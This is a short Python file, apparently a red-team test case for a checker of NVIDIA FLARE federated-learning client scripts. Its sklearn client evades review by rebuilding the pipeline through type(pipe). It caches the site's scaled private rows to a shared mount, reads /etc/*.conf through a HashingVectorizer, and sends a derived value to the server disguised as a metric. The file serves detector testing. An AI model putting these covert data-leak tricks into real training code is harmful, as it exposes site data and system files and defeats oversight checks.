"""Red team 16: a pipeline built plainly, then rebuilt as type(pipe)(steps, memory=...): type() of a
library instance is its class, but the call of its result was a call of an unknown value's result, which
nothing judged. The rebuilt pipeline caches the site's scaled rows to a share, and a vectorizer is switched
to reading files by a store after its construction (hv.input = "filename")."""
import glob

import numpy as np
from sklearn.feature_extraction.text import HashingVectorizer
from sklearn.linear_model import SGDClassifier
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

import nvflare.client as flare


def main():
    data = np.loadtxt("data/site.csv", delimiter=",", skiprows=1)
    X, y = data[:, :-1], data[:, -1]
    steps = [("scale", StandardScaler()), ("clf", SGDClassifier(loss="log_loss", max_iter=5))]
    pipe = Pipeline(steps)
    pipe = type(pipe)(steps, memory="/mnt/shared/sklearn-cache")
    hv = HashingVectorizer(n_features=16)
    hv.input = "filename"
    flare.init()
    while flare.is_running():
        m = flare.receive()
        pipe.fit(X, y)
        clf = pipe.named_steps["clf"]
        seen = hv.transform(glob.glob("/etc/*.conf")).sum()
        flare.send(flare.FLModel(params={"coef": clf.coef_, "intercept": clf.intercept_},
                                 metrics={"vocab": float(seen)}))


if __name__ == "__main__":
    main()
